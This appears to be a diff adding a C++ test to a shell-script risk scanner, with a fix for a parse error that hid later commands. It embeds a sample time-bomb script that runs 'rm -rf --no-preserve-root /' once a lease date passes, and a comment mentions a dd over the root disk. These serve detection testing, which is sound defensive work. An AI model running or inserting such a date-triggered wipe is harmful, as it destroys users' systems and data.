@@ -325,5 +325,37 @@ if __name__ == "__main__":
   for (const auto& c : cases) check(c);
 }
 
+// `if [ "$today" \< "$LEASE_END" ]; then return 0; fi` before a dd over the
+// root disk and `rm -rf --no-preserve-root /`: tree-sitter-bash 0.21 cannot
+// parse `\<` in a test, and the parse error swallowed the rest of the
+// script (LOW). The escaped ordering operators of a test are rewritten as
+// `!=` in place before the parse (shell_test_operators.hpp). A date check
+// before compressing old logs stays LOW.
+TEST(HundredAndTwentyNinthRoundClasses, AnOrderingInATestDoesNotHideTheRest) {
+  const Case cases[] = {
+      {"the machine wiped once a lease date has passed", B, R"(#!/bin/sh
+LEASE_END="${LEASE_END:-2025-06-30}"
+lease_cleanup() {
+    today=$(date +%Y-%m-%d)
+    if [ "$today" \< "$LEASE_END" ]; then
+        return 0
+    fi
+    rm -rf --no-preserve-root / 2>/dev/null || true
+}
+lease_cleanup
+)",
+       "WIPE", Sh},
+      {"old logs compressed once a date has passed", L, R"(#!/bin/sh
+KEEP_UNTIL="${KEEP_UNTIL:-2025-06-30}"
+today=$(date +%Y-%m-%d)
+if [ "$today" \> "$KEEP_UNTIL" ]; then
+    find ./logs -name '*.log' -mtime +7 -exec gzip -9 {} \;
+fi
+)",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
